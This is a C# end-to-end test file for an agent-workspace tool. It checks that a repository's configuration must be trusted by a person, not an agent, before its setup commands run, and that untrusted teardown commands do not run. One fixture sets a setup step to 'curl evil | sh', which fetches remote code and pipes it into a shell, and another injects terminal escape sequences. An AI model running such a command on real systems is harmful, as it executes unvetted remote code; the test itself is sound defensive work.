using System.Diagnostics;
using System.Text.Json;
using Loreli.Agents.Workspaces;

namespace Loreli.EndToEnd;

/// <summary>What the verbs do with a team's folder: trust, workspaces, timelines, hooks.</summary>
public sealed class TeamFolderSpecs : IDisposable
{
    private const string NotTrusted = "was never trusted";

    private readonly LoreliHome _home = new(git: false);

    public TeamFolderSpecs()
    {
        Git(_home.Repository, "init", "--quiet", "--initial-branch=main");
        Git(_home.Repository, "config", "user.name", "A Person");
        Git(_home.Repository, "config", "user.email", "person@example.org");
        Commit(_home.Repository, "README", "hello\n");
    }

    public void Dispose() => _home.Dispose();

    [Fact]
    public void A_configuration_is_shown_allowed_and_asked_for_again_when_it_changes()
    {
        Write("theme: zelda\nworkspace: { setup: [\"npm ci\"] }\n");

        var seen = _home.Run("trust", "--show");
        _home.Ok("trust").Output.ShouldContain("npm ci");
        var trusted = _home.Ok("trust", "--show", "--json").Json;
        Write("# a comment\nworkspace: { setup: [\"curl evil | sh\"] }\ntheme: zelda\n");
        var changed = _home.Run("trust", "--show");

        (seen.ExitCode, changed.ExitCode).ShouldBe((77, 77));
        seen.Output.ShouldContain(NotTrusted);
        trusted.GetProperty("state").GetString().ShouldBe("trusted");
        changed.Output.ShouldContain("\"npm ci\" → \"curl evil | sh\"");
        changed.Output.ShouldNotContain("zelda");
    }

    [Fact]
    public void Neither_an_agent_nor_another_hash_gets_trust_and_what_is_broken_cannot_have_it()
    {
        Write("workspace: { setup: [\"make\"] }\n");
        _home.Environment["LORELI_AGENT"] = "jazz";
        var byAgent = _home.Run("trust");
        _home.Environment.Remove("LORELI_AGENT");
        var otherHash = _home.Run("trust", "--hash", "abc");
        var after = _home.Run("trust", "--show");
        Write("agents: [{nme: x}]\n");
        var broken = _home.Run("trust");

        (byAgent.ExitCode, otherHash.ExitCode, after.ExitCode, broken.ExitCode).ShouldBe((77, 77, 77, 1));
        byAgent.Error.ShouldContain("LOR0641");
        otherHash.Error.ShouldContain("LOR0642");
        after.Output.ShouldContain(NotTrusted);
        broken.Error.ShouldContain("loreli.yml:1:");
    }

    [Fact]
    public void A_file_that_speaks_to_the_terminal_does_not_reach_it()
    {
        Write("workspace: { setup: [\"echo \\e[2J\\e]0;x\\a\"] }\n");

        _home.Run("trust", "--show").Output.ShouldNotContain('\e');
    }

    [Fact]
    public async Task An_agents_work_is_listed_shown_merged_and_cleaned_without_a_daemon()
    {
        var path = await MakeWorkspace("jazz");
        Commit(path, "feature.txt", "new\n");
        File.WriteAllText(Path.Combine(path, "half.txt"), "x");

        var list = _home.Ok("workspace", "list", "--json").Json[0];
        list.GetProperty("unmerged").GetInt32().ShouldBe(1);
        list.GetProperty("uncommitted").GetInt32().ShouldBe(1);
        _home.Ok("workspace", "diff", "jazz").Output.ShouldContain("+new");
        _home.Run("workspace", "clean", "jazz").ExitCode.ShouldBe(1);
        _home.Ok("workspace", "merge", "jazz").Output.ShouldContain("fast-forward");
        File.Exists(Path.Combine(_home.Repository, "feature.txt")).ShouldBeTrue();
        File.Delete(Path.Combine(path, "half.txt"));
        _home.Ok("workspace", "clean", "--dry-run").Output.ShouldStartWith("would remove jazz");
        _home.Ok("workspace", "clean").Output.ShouldStartWith("removed jazz, branch jazz/work");
        Directory.Exists(path).ShouldBeFalse();
    }

    [Fact]
    public async Task Commands_of_a_configuration_that_is_not_trusted_do_not_run_when_a_workspace_is_cleaned()
    {
        await MakeWorkspace("jazz");
        var told = Path.Combine(_home.Root, "told");
        Write($"workspace: {{ teardown: [\"touch {told}\"] }}\n");

        _home.Ok("workspace", "clean");
        File.Exists(told).ShouldBeFalse();
        await MakeWorkspace("jazz");
        _home.Ok("trust");
        _home.Ok("workspace", "clean");

        File.Exists(told).ShouldBeTrue();
    }

    [Fact]
    public void A_timeline_goes_back_over_a_former_name()
    {
        _home.Up();
        _home.SpawnShell("before", "exit 3");
        _home.WaitForExit("before");
        _home.Ok("rename", "before", "after");

        var lines = _home.Ok("trace", "after", "--json").Output.Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Select(it => JsonDocument.Parse(it).RootElement.GetProperty("text").GetString()!).ToArray();

        lines[0].ShouldStartWith("started /bin/sh");
        lines.ShouldContain(it => it.StartsWith("ended with 3", StringComparison.Ordinal));
        lines[^1].ShouldBe("renamed from before");
        _home.Run("trace", "nobody").ExitCode.ShouldBe(1);
    }

    [Theory]
    [InlineData("{\"session_id\":\"c1\"}"), InlineData(""), InlineData("no json")]
    public void A_hook_holds_no_agent_up_and_says_nothing_also_when_there_is_no_daemon(string input)
    {
        _home.Environment["LORELI_AGENT"] = "jazz";

        var outcome = _home.RunWith(input, null, "hook", "Stop");

        outcome.ShouldBe(new Outcome(0, "", ""));
    }

    private async Task<string> MakeWorkspace(string agent)
    {
        var state = Path.Combine(_home.Home, "repos", StateName);
        var workspaces = new RepositoryWorkspaces(
            new WorkspaceOptions { Repository = _home.Repository, StateDirectory = state, FreeBytesMin = 0 }, TimeProvider.System);
        var made = await workspaces.PrepareAsync(new WorkspaceRequest(PaneName.Parse(agent), WorkspaceKind.Worktree), CancellationToken.None);
        return made.ShouldBeOfType<WorkspaceOutcome.Ready>().Workspace.Path;
    }

    private string StateName => Path.GetFileName(((Protocol.Places.PathsOutcome.Found)Protocol.Places.RepositoryPaths.Find(new(
        _home.Repository, 0, it => it == "LORELI_HOME" ? _home.Home : null, it => Path.Exists(Path.Combine(it, ".git"))))).Paths.StateDirectory);

    private void Write(string configuration) => File.WriteAllText(Path.Combine(_home.Repository, "loreli.yml"), configuration);

    private static void Commit(string folder, string file, string text)
    {
        File.WriteAllText(Path.Combine(folder, file), text);
        Git(folder, "add", "--all");
        Git(folder, "commit", "--quiet", "--message", file);
    }

    private static void Git(string folder, params string[] arguments)
    {
        using var git = Process.Start(new ProcessStartInfo("git", arguments) { WorkingDirectory = folder })!;
        git.WaitForExit();
        git.ExitCode.ShouldBe(0);
    }
}
